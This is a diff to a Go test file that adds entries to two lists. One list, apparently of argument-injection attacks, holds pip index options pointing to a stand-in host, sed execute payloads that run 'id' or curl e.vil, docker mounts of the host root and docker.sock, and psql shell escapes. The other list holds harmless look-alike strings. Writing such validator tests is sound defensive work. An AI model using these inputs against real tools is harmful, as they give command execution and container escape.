@@ -58,7 +58,7 @@ var argumentAttacks = []string{
 	"--extra-index-url=https://e.vil/simple", "--find-links=http://e.vil/", "-ihttp://e.vil/", "--index=http://e.vil/",
 	// a tenth fresh-eyes attack's (attack 14) still open then: sed,
 	// docker, psql, npm and 7-Zip (210190)
-	"1e id", "e id", "$e id", "1eid", "e\tsh -c id", "/x/e sh -c id", "1,3e curl http://e.vil", "s/x/id/e", "s/a/b/ge",
+	"1e id", "e id", "$e id", "1eid", "e\tsh -c id", "/x/e sh -c id", "1,3e curl http://e.vil", "s/x/id/e", "s/a/b/ge", "s/x/id/eg;p", "1{s/x/id/e}", "1s/x/id/e", "$!s/x/id/e",
 	"-v /:/host", "-v /var/run/docker.sock:/var/run/docker.sock", "--volume=/:/host", "--mount type=bind,source=/,target=/h", "-v /etc:/x",
 	"--volume /root/.ssh:/k", "--mount type=bind,src=/var/run/docker.sock,dst=/s", "-v/proc:/p",
 	"\\! id", "-c \\! id", "-c '\\! id'", "\\o |id", "--command=\\! id", "x' \\g |sh", "x' \\! curl e.vil",
@@ -125,7 +125,7 @@ var execBenign = []string{
 	"--config=ui.username=ann", "-e http_proxy", "-Eid Mubarak", "-Pidgin English", "-e catalogue", "--execute", "-expected delays",
 	"-i https is required", "-f file.txt", "-Pi day", "--rsync", "--config=ui.verbose=true", "-e post", "-ideas", "-finance=1",
 	// near attack 14's 210190
-	"e mail", "1e6", "2e10 ids", "See e.g. id cards", "s/he said", "-v", "-verbose", "-v 1.2.3", "--prefix", "--prefix-free", "-sort",
+	"e mail", "1e6", "2e10 ids", "See e.g. id cards", "s/he said", "s/foo/bar/ge replaces with code in Perl", "s/x/y/e is the flag that evaluates", "-v", "-verbose", "-v 1.2.3", "--prefix", "--prefix-free", "-sort",
 	"-solo", "--privileges are listed", "\\n", "C:\\Users\\ann", "it's \\! great", "-volume up", "--mount point", "Home: e sh", "eid mubarak", "ecat", "esh",
 	// near attack 16's B15
 	"-T", "-TT", "-TTL is 60", "-T -v", "--unzip", "-cmd .tables", "-cmd", "-cmdline", "-sOutputFile=out.pdf", "-o out.pdf", "-o | table", "-s pipe",
